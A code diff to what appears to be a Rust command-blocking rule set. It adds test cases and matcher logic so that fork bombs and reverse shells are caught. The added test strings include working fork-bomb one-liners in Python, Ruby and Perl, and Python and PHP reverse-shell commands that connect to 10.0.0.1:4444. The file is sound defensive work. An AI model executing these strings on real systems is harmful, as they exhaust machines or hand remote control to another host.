@@ -69,8 +69,8 @@ pub static RULES: &[Rule] = &[
         reason: "a function that keeps spawning copies of itself exhausts the machine until it is restarted",
         decision: Decision::Block,
         matcher: Matcher::Analysis(fork_bomb),
-        hits: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; }; f"],
-        misses: &["echo ':(){ :|:& };:'", "f() { echo hi; }; f | cat"],
+        hits: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; }; f", "python3 -c 'import os\nwhile True: os.fork()'", "ruby -e 'loop { fork }'", "perl -e 'fork while fork'"],
+        misses: &["echo ':(){ :|:& };:'", "f() { echo hi; }; f | cat", "python3 -c 'import os; pid = os.fork()'", "python3 -c 'print(\"while True: os.fork()\")'"],
     },
     Rule {
         id: "hardline.kill-all",
@@ -141,8 +141,8 @@ pub static RULES: &[Rule] = &[
         reason: "it hands an interactive shell on this machine to a remote host",
         decision: Decision::Block,
         matcher: Matcher::Analysis(reverse_shell),
-        hits: &["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ncat --exec /bin/bash 10.0.0.1 9001", "socat tcp:10.0.0.1:4444 exec:/bin/sh"],
-        misses: &["nc -zv example.com 443", "echo hi > /dev/null"],
+        hits: &["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ncat --exec /bin/bash 10.0.0.1 9001", "socat tcp:10.0.0.1:4444 exec:/bin/sh", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"],
+        misses: &["nc -zv example.com 443", "echo hi > /dev/null", "python3 -c 'import socket; s=socket.create_connection((\"example.com\", 80)); s.sendall(b\"x\")'", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"],
     },
     Rule {
         id: "hardline.sudoers-write",
@@ -280,6 +280,7 @@ fn writes_device(analysis: &Analysis) -> Option<String> {
 fn fork_bomb(analysis: &Analysis) -> Option<String> {
     analysis.findings.iter().find_map(|f| match f {
         Finding::ForkBomb { name } => Some(format!("{name}() {{ {name} | {name} & }}")),
+        Finding::ForkLoop { code } => Some(code.clone()),
         _ => None,
     })
 }
@@ -375,6 +376,13 @@ fn recursive_on_root(cmd: &Command) -> bool {
 }
 
 fn reverse_shell(analysis: &Analysis) -> Option<String> {
+    let in_code = analysis.findings.iter().find_map(|f| match f {
+        Finding::ReverseShell { command } => Some(command.clone()),
+        _ => None,
+    });
+    if in_code.is_some() {
+        return in_code;
+    }
     analysis.commands.iter().find_map(|cmd| {
         let net_redirect = cmd
             .redirects
